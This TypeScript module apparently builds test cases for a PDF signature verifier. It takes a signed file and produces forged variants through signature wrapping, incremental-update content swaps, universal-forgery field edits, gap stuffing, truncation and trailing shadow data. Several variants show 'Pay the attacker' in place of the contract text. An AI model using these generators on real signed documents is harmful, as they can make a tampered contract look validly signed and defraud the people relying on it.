import { createHash } from "node:crypto";
import {
  appendUpdate,
  findObjectBody,
  findObjectNumbers,
  getLastStart,
  getNextObjectNumber,
  getRootNumber,
  withEntry,
} from "./updates";

/**
 * Attacks on a validly signed file: tampered with, wrapped, shadowed, appended to. Deterministic: equal input
 * gives equal files.
 */

type Family = "flipped" | "flippedSignature" | "cut" | "wrapped" | "fields" | "appended" | "shadowed";
export type Attack = { family: Family; name: string; bytes: Buffer };

type Gap = { start: number; end: number; length: number };

function findGap(bytes: Buffer): Gap {
  const all = [...bytes.toString("latin1").matchAll(/\/ByteRange\s*\[\s*0\s+(\d+)\s+(\d+)\s+(\d+)\s*\]/g)];
  const [, start, end] = all.at(-1)?.map(Number) ?? [];
  if (start === undefined || end === undefined) throw new Error("no ByteRange");
  return { start, end, length: bytes.length };
}

function withByte(bytes: Buffer, at: number, change: (byte: number) => number): Buffer {
  const copy = Buffer.from(bytes);
  copy[at] = change(copy[at] ?? 0);
  return copy;
}

/** Single-bit flips spread over the signed bytes. */
function flipBits(bytes: Buffer, count: number): Attack[] {
  const { start, end, length } = findGap(bytes);
  const covered = start + length - end;
  return Array.from({ length: count }, (_, index) => {
    const place = 12 + Math.floor(((covered - 24) * (index + 0.37)) / count);
    const at = place < start ? place : place - start + end;
    return { family: "flipped", name: `byte ${at}`, bytes: withByte(bytes, at, (byte) => byte ^ 1) };
  });
}

/** Hexadecimal digits of the shortest signature value; other data may come before it. */
const VALUE_DIGITS = 120;

/**
 * Changes one digit in the digest or in the signature value, which is the last part used. Elsewhere in the
 * CMS, as in an unneeded certificate of an authority, readers differ in their tolerance.
 */
function flipSignatureDigits(bytes: Buffer, count: number): Attack[] {
  const { start, end } = findGap(bytes);
  const head = Buffer.from(bytes.toString("latin1", start + 1, start + 9), "hex");
  const used = start + 1 + (head.readUInt16BE(2) + 4) * 2;
  const digest = createHash("sha256")
    .update(bytes.subarray(0, start))
    .update(bytes.subarray(end))
    .digest("hex");
  const digestAt = bytes.toString("latin1", start, end).toLowerCase().indexOf(digest) + start;
  const stride = Math.min(17, Math.floor(VALUE_DIGITS / count));
  const places = Array.from({ length: count }, (_, index) => used - 3 - index * stride);
  if (digestAt >= start) places.push(digestAt + 5, digestAt + 40);
  return places.map((at, index) => {
    const swapDigit = (byte: number) => (byte === 0x30 ? 0x31 : 0x30);
    return { family: "flippedSignature", name: `digit ${index}`, bytes: withByte(bytes, at, swapDigit) };
  });
}

function cutFile(bytes: Buffer): Attack[] {
  const { end, length } = findGap(bytes);
  return [length - 1, length - 40, end + 10, end - 4].map((size) => ({
    family: "cut",
    name: `to ${size} of ${length}`,
    bytes: bytes.subarray(0, size),
  }));
}

const EVIL = "BT /F1 18 Tf 60 700 Td (Pay the attacker) Tj ET";
const formatStream = (content: string): string =>
  `<< /Length ${content.length} >>\nstream\n${content}\nendstream`;

/**
 * Signature wrapping: the signed bytes stay and the gap grows. It holds new objects and a new cross-reference
 * exactly at the offset named in the signed end. A new signature dictionary names the new gap.
 */
function wrapSignature(bytes: Buffer): Attack[] {
  const { start, end, length } = findGap(bytes);
  const signature = findObjectNumbers(bytes, /\/ByteRange/).at(-1) ?? 0;
  const [content] = findObjectNumbers(bytes, /Contract text/);
  const at = getLastStart(bytes);
  const hex = bytes.toString("latin1", start, end);
  const body = findObjectBody(bytes, signature);
  const shapes: [name: string, contents: "kept" | "first", tail: string][] = [
    ["ends in white space", "kept", "\n"],
    ["ends like a string", "kept", "\n%>"],
    ["keeps the old string as well", "first", "\n%>"],
    ["ends in the same string", "first", `\n${hex}`],
  ];
  return shapes.map(([name, contents, tail]) => {
    const head = contents === "first" ? `${hex}\n>>\nendobj\n` : `<${"0".repeat(64)}>\n>>\nendobj\n`;
    const room = 400_000;
    const second = at + room;
    const range = `[0 ${start} ${second} ${length - end}]`;
    const dict = body.replace(/\/ByteRange\s*\[[^\]]*\]/, `/ByteRange ${range}`);
    const objects: [number, string][] = [[signature, dict]];
    if (content !== undefined) objects.push([content, formatStream(EVIL)]);
    let inside = head;
    const rows = objects.map(([number, text]) => {
      const offset = start + inside.length;
      inside += `${number} 0 obj\n${text}\nendobj\n`;
      return `${number} 1\n${String(offset).padStart(10, "0")} 00000 n \n`;
    });
    const previous = Number(/\/Prev (\d+)/.exec(bytes.toString("latin1", at))?.[1]);
    const size = getNextObjectNumber(bytes);
    const own = `xref\n${rows.join("")}trailer\n<< /Size ${size} /Root ${getRootNumber(bytes)} 0 R /Prev ${previous} >>\n`;
    // The signed end names the cross-reference's offset, which is now in the gap.
    const gap = `${inside.padEnd(Math.max(0, at - start), "\n")}${own}`;
    const filled = `${gap.padEnd(second - start - tail.length, "\n")}${tail}`;
    return {
      family: "wrapped",
      name,
      bytes: Buffer.concat([bytes.subarray(0, start), Buffer.from(filled, "latin1"), bytes.subarray(end)]),
    };
  });
}

/** Junk in the unused room of the signature, the only unsigned place of a signed file. */
function stuffGap(bytes: Buffer): Attack[] {
  const { start, end } = findGap(bytes);
  const free = end - 1 - 200;
  const putText = (text: string, at = free): Buffer => {
    const copy = Buffer.from(bytes);
    copy.write(text, at, "latin1");
    return copy;
  };
  return [
    ["digits behind the signature", putText("deadbeef".repeat(8))],
    ["a second key behind the signature", putText(`> /Reason (Forged) /Filler <${"0".repeat(20)}`)],
    [
      "an object behind the signature",
      putText(`> >> endobj 4 0 obj << /Length 0 >> stream endstream endobj <00`),
    ],
    ["white space behind the signature", putText(" ".repeat(40))],
    ["another /ByteRange behind the signature", putText(`> /ByteRange [0 ${start} ${end} 10] /X <00`)],
  ].map(([name, copy]) => ({ family: "wrapped", name: String(name), bytes: Buffer.from(copy ?? "") }));
}

/** Universal forgery: a later version of the signature dictionary with missing or nonsensical parts. */
function forgeFields(bytes: Buffer): Attack[] {
  const number = findObjectNumbers(bytes, /\/ByteRange/).at(-1) ?? 0;
  const body = findObjectBody(bytes, number);
  const { start, end, length } = findGap(bytes);
  const replaceRange = (text: string) => body.replace(/\/ByteRange\s*\[[^\]]*\]/, text);
  const replaceContents = (text: string) => body.replace(/\/Contents\s*<[^>]*>/, text);
  const variants: Record<string, string> = {
    "no range": replaceRange(""),
    "an empty range": replaceRange("/ByteRange []"),
    "a range of null": replaceRange("/ByteRange null"),
    "a range over nothing": replaceRange("/ByteRange [0 0 0 0]"),
    "a negative range": replaceRange(`/ByteRange [0 ${start} ${end} -${length - end}]`),
    "a range that begins later": replaceRange(`/ByteRange [4 ${start - 4} ${end} ${length - end}]`),
    "a range of three parts": replaceRange(
      `/ByteRange [0 ${start} ${end} 10 ${end + 10} ${length - end - 10}]`,
    ),
    "a range past the end": replaceRange(`/ByteRange [0 ${start} ${end} ${length * 4}]`),
    "no signature": replaceContents(""),
    "an empty signature": replaceContents("/Contents <>"),
    "a signature of zeros": replaceContents(`/Contents <${"0".repeat(2000)}>`),
    "a signature of null": replaceContents("/Contents null"),
    "another format": body.replace(/\/SubFilter \/[\w.]+/, "/SubFilter /adbe.x509.rsa_sha1"),
  };
  return Object.entries(variants).map(([name, text]) => ({
    family: "fields",
    name,
    bytes: appendUpdate(bytes, { objects: { [number]: text } }),
  }));
}

/** Incremental saving: the signed bytes stay, and a later update shows other content. */
function appendUpdates(bytes: Buffer): Attack[] {
  const root = getRootNumber(bytes);
  const catalog = findObjectBody(bytes, root);
  const fresh = getNextObjectNumber(bytes);
  const page = findObjectNumbers(bytes, /\/Type \/Page\b/).at(-1) ?? 0;
  const pageBody = findObjectBody(bytes, page);
  const signature = findObjectNumbers(bytes, /\/ByteRange/).at(-1) ?? 0;
  const widget = findObjectNumbers(bytes, /\/FT \/Sig/).at(-1) ?? 0;
  const [content = fresh] = findObjectNumbers(bytes, /Contract text/);
  const evil = { [content]: formatStream(EVIL) };
  const note = `<< /Type /Annot /Subtype /FreeText /Rect [50 600 400 760] /Contents (Evil) /DA (/Helv 20 Tf) >>`;
  const drawing = `<< /Type /XObject /Subtype /Form /BBox [0 0 400 100] /Length 30 >>\nstream\n1 1 1 rg 0 0 400 100 re f      \nendstream`;
  const coverWidget = `<< /Type /Annot /Subtype /Widget /FT /Sig /T (Cover) /Rect [40 600 440 780] /AP << /N ${fresh} 0 R >> /V ${fresh + 2} 0 R >>`;
  const createUpdate = (
    objects: Record<number, string | null>,
    more: Omit<Parameters<typeof appendUpdate>[1], "objects"> = {},
  ) => appendUpdate(bytes, { objects, ...more });
  const variants: Record<string, Buffer> = {
    "other content": createUpdate(evil),
    "other content without cross-reference": createUpdate(evil, { without: ["xref"] }),
    "other content without startxref": createUpdate(evil, { without: ["startxref"] }),
    "other content without the way back": createUpdate(evil, { without: ["prev"] }),
    "content that is freed": createUpdate({ [content]: null }),
    "a page with other content": createUpdate({
      [page]: pageBody.replace(/\/Contents (?:\d+ 0 R|\[[^\]]*\])/, `/Contents ${fresh} 0 R`),
      [fresh]: formatStream(EVIL),
    }),
    "a page turned": createUpdate({ [page]: pageBody.replace(/^<</, "<< /Rotate 180") }),
    "a note": createUpdate({ [fresh]: note, [page]: withEntry(pageBody, "Annots", fresh) }),
    "the signature's widget gone": createUpdate({ [widget]: null }),
    "the signature taken out of its field": createUpdate({
      [widget]: findObjectBody(bytes, widget).replace(/\/V \d+ 0 R/, ""),
    }),
    "the form gone": createUpdate({ [root]: catalog.replace(/\/AcroForm/, "/NoAcroForm") }),
    "an action at opening": createUpdate({
      [root]: catalog.replace(/^<</, "<< /OpenAction << /S /URI /URI (http://x) >>"),
    }),
    "another page tree": createUpdate({
      [root]: catalog.replace(/\/Pages \d+ 0 R/, `/Pages ${fresh} 0 R`),
      [fresh]: `<< /Type /Pages /Count 1 /Kids [${fresh + 1} 0 R] >>`,
      [fresh + 1]: `<< /Type /Page /Parent ${fresh} 0 R /MediaBox [0 0 300 300] >>`,
    }),
    "another catalog": createUpdate({ [fresh]: catalog }, { trailer: `/Root ${fresh} 0 R` }),
    "a copy of the signature in a new object": createUpdate({
      [fresh]: findObjectBody(bytes, signature),
      [widget]: findObjectBody(bytes, widget).replace(/\/V \d+ 0 R/, `/V ${fresh} 0 R`),
      ...evil,
    }),
    "a time-stamp that covers the page": createUpdate({
      [fresh]: drawing,
      [fresh + 1]: coverWidget,
      [fresh + 2]:
        "<< /Type /DocTimeStamp /SubFilter /ETSI.RFC3161 /Filter /Adobe.PPKLite /ByteRange [0 1 2 3] /Contents <00> >>",
      [page]: withEntry(pageBody, "Annots", fresh + 1),
    }),
    "a security store that is also content": createUpdate({
      [root]: catalog.replace(/^<</, `<< /DSS << /Certs [${content} 0 R] >>`),
      ...evil,
    }),
  };
  return Object.entries(variants).map(([name, file]) => ({ family: "appended", name, bytes: file }));
}

/** Bytes behind the end that no reader should show. */
function appendTrailing(bytes: Buffer): Attack[] {
  const appendText = (text: string) => Buffer.concat([bytes, Buffer.from(text, "latin1")]);
  const variants: Record<string, Buffer> = {
    "a comment": appendText("\n% more\n"),
    rubbish: appendText("\nrubbish\n"),
    "an object nobody names": appendText(`4 0 obj\n${formatStream(EVIL)}\nendobj\n`),
    "another end": appendText(`startxref\n${getLastStart(bytes)}\n%%EOF\n`),
    "the file again": Buffer.concat([bytes, bytes]),
  };
  return Object.entries(variants).map(([name, file]) => ({ family: "shadowed", name, bytes: file }));
}

/**
 * Returns the attacks. `thorough` adds every family; otherwise only those that work without plain-text
 * objects.
 */
export function listFileAttacks(
  bytes: Buffer,
  counts: { flips: number; digits: number },
  thorough: boolean,
): Attack[] {
  const always = [
    ...flipBits(bytes, counts.flips),
    ...flipSignatureDigits(bytes, counts.digits),
    ...cutFile(bytes),
  ];
  const more = [...always, ...stuffGap(bytes), ...appendTrailing(bytes)];
  return thorough ? [...more, ...wrapSignature(bytes), ...forgeFields(bytes), ...appendUpdates(bytes)] : more;
}
